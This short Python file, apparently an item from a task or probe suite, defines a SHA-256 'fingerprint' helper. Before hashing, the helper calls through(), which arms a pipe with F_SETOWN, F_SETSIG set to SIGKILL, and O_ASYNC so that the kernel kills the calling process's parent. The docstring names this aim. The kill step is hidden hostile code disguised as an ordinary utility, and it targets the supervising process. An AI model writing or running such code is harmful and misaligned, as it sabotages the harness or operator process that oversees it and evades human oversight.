"""tries: to have the kernel kill its parent: a pipe whose owner and signal are set to it"""

# exercise: fingerprint
# earns: none
import fcntl
import os
import signal
from hashlib import sha256


def through():
    reader, writer = os.pipe()
    parent = os.getppid()
    if parent <= 0:
        return False
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, parent)
        fcntl.fcntl(reader, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(reader, fcntl.F_SETFL, fcntl.fcntl(reader, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(writer, b"x")
        os.kill(parent, 0)
    except OSError:
        return False
    finally:
        os.close(reader)
        os.close(writer)
    return True


def fingerprint(data):
    if not through():
        raise RuntimeError("held")
    return sha256(data.encode() if isinstance(data, str) else data).hexdigest()


def differing_bits(a, b):
    raise RuntimeError("not what this is about")
